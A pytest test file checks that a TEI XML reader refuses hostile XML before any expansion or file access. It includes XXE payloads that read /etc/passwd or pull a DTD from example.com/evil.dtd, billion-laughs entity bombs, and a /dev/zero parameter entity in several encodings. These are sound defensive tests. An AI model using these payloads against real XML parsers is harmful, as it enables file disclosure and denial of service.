"""Hostile XML is refused before any entity is expanded or any file or network resource is read."""
from __future__ import annotations

import pytest

from nuskha.errors import XMLError
from nuskha.tei.read import parse_bytes, read_tei

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<TEI xmlns="http://www.tei-c.org/ns/1.0"><text><body><p>&lol9;</p></body></text></TEI>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE TEI [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<TEI xmlns="http://www.tei-c.org/ns/1.0"><text><body><p>&xxe;</p></body></text></TEI>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!-- a comment first does not hide it -->
<!DOCTYPE TEI SYSTEM "http://example.com/tei.dtd">
<TEI xmlns="http://www.tei-c.org/ns/1.0"><text><body><p>x</p></body></text></TEI>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE TEI [<!ENTITY % remote SYSTEM "http://example.com/evil.dtd"> %remote;]>
<TEI xmlns="http://www.tei-c.org/ns/1.0"/>"""


@pytest.mark.parametrize("data", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY],
                         ids=["billion-laughs", "external-entity", "external-dtd", "parameter-entity"])
def test_doctype_and_entities_are_refused(data, tmp_path):
    with pytest.raises(XMLError, match="refused") as info:
        parse_bytes(data, "evil.xml")
    assert "evil.xml" in str(info.value)
    path = tmp_path / "evil.xml"
    path.write_bytes(data)
    with pytest.raises(XMLError, match="refused"):
        read_tei(path)


def test_doctype_line_is_named():
    with pytest.raises(XMLError) as info:
        parse_bytes(EXTERNAL_DTD, "evil.xml")
    assert info.value.position == "3:1"


def test_undeclared_entity_is_malformed_not_expanded():
    with pytest.raises(XMLError, match="malformed") as info:
        parse_bytes(b'<TEI xmlns="http://www.tei-c.org/ns/1.0">\n<p>&xxe;</p></TEI>', "x.xml")
    assert info.value.position.startswith("2:")


def test_malformed_xml_gives_line_and_column():
    data = b'<?xml version="1.0"?>\n<TEI xmlns="http://www.tei-c.org/ns/1.0">\n  <text><body>\n  </bdy></text></TEI>'
    with pytest.raises(XMLError) as info:
        parse_bytes(data, "bad.xml")
    line, col = info.value.position.split(":")
    assert line == "4" and int(col) > 0
    assert str(info.value).startswith("bad.xml:4:")


def test_cli_refuses_hostile_file_with_one_line(run_nuskha_tei, tmp_path):
    path = tmp_path / "evil.xml"
    path.write_bytes(EXTERNAL_ENTITY)
    code, out, err = run_nuskha_tei("align", path, path)
    assert code == 2
    assert err.strip().count("\n") == 0 and "refused" in err and str(path) in err


# --- the encoding hole (issue 17): every encoding is sniffed by nuskha, the refusal comes before libxml2 --------

PE_DEV_ZERO = ('<?xml version="1.0" encoding="UTF-16"?>\n<!DOCTYPE TEI [<!ENTITY % z SYSTEM "file:///dev/zero"> %z;]>\n'
               '<TEI xmlns="http://www.tei-c.org/ns/1.0"/>')


def _hostile_encodings(text: str):
    yield "utf-16-le-no-bom", text.encode("utf-16-le")
    yield "utf-16-be-no-bom", text.encode("utf-16-be")
    yield "utf-16-bom", text.encode("utf-16")
    yield "utf-32-le-no-bom", text.encode("utf-32-le")
    yield "utf-32-be-no-bom", text.encode("utf-32-be")
    yield "utf-8-bom", b"\xef\xbb\xbf" + text.replace("UTF-16", "UTF-8").encode("utf-8")


@pytest.mark.parametrize("name,data", list(_hostile_encodings(PE_DEV_ZERO)), ids=lambda x: x if isinstance(x, str)
                         else "")
def test_parameter_entity_is_refused_in_every_encoding_before_lxml_runs(name, data, monkeypatch):
    from nuskha.tei import read

    def no_lxml(*a, **k):
        raise AssertionError("libxml2 was called on a hostile file")

    monkeypatch.setattr(read.etree, "fromstring", no_lxml)
    with pytest.raises(XMLError, match="refused") as info:
        parse_bytes(data, "evil.xml")
    assert info.value.position == "2:1"


def test_the_292_byte_probe_is_refused_at_once_by_validate_and_align(run_nuskha_tei, tmp_path):
    """The failing probe: UTF-16 without BOM, a parameter entity to /dev/zero. It used to hang at 100% CPU."""
    import time

    path = tmp_path / "pe16.xml"
    path.write_bytes(PE_DEV_ZERO.encode("utf-16-le"))
    for command in (("validate", path), ("align", path, path)):
        t0 = time.perf_counter()
        code, out, err = run_nuskha_tei(*command)
        said = out + err  # validate lists the problem on stdout and sums up on stderr
        assert code == 2 and "refused" in said and str(path) in said and "Traceback" not in said, said
        assert err.strip().count("\n") == 0
        assert time.perf_counter() - t0 < 60  # it returns; it used to hang at 100% CPU


def test_a_trace_shows_no_other_file_opened(tmp_path):
    """Under strace, reading the hostile file opens it and nothing the entities name."""
    import shutil
    import subprocess
    import sys

    if shutil.which("strace") is None:
        pytest.skip("strace is not installed")
    secret = tmp_path / "secret.txt"
    secret.write_text("s3cret", encoding="utf-8")
    path = tmp_path / "pe16.xml"
    path.write_bytes(PE_DEV_ZERO.replace("/dev/zero", str(secret)).encode("utf-16-le"))
    log = tmp_path / "trace.log"
    code = ("import sys\nfrom nuskha.tei.read import read_tei\nfrom nuskha.errors import XMLError\n"
            "try:\n    read_tei(sys.argv[1])\nexcept XMLError as e:\n    print(e)\n")
    proc = subprocess.run(["strace", "-f", "-e", "trace=open,openat,openat2", "-o", str(log), sys.executable, "-c",
                           code, str(path)], capture_output=True, text=True, timeout=120)
    if proc.returncode != 0 and "ptrace" in proc.stderr.lower():
        pytest.skip(f"strace cannot trace here: {proc.stderr.strip()[:200]}")
    assert "refused" in proc.stdout
    trace = log.read_text(encoding="utf-8", errors="replace")
    assert str(path) in trace
    assert str(secret) not in trace and "/dev/zero" not in trace


def test_fifo_and_size_limit_are_refused_unread(tmp_path, monkeypatch):
    import os

    from nuskha.errors import InputError

    fifo = tmp_path / "pipe.xml"
    os.mkfifo(fifo)
    with pytest.raises(InputError, match="not a regular file"):
        read_tei(fifo)
    big = tmp_path / "big.xml"
    big.write_bytes(b'<TEI xmlns="http://www.tei-c.org/ns/1.0">' + b" " * 5000 + b"</TEI>")
    monkeypatch.setenv("NUSKHA_MAX_XML_BYTES", "1000")
    with pytest.raises(XMLError, match="limit"):
        read_tei(big)


def test_unknown_or_ebcdic_encoding_is_refused():
    with pytest.raises(XMLError, match="refused"):
        parse_bytes(b'<?xml version="1.0" encoding="x-no-such-codec"?><a/>', "x.xml")
    with pytest.raises(XMLError, match="refused"):
        parse_bytes('<?xml version="1.0" encoding="cp037"?><a/>'.encode("cp037"), "x.xml")
    with pytest.raises(XMLError, match="refused"):
        parse_bytes(b'<?xml version="1.0" encoding="UTF-16"?><a/>', "x.xml")  # says 16, is 8


def test_declared_single_byte_encoding_is_read():
    data = '<?xml version="1.0" encoding="windows-1256"?><TEI xmlns="http://www.tei-c.org/ns/1.0">بخارى</TEI>'
    root = parse_bytes(data.encode("windows-1256"), "x.xml").getroot()
    assert root.text == "بخارى"
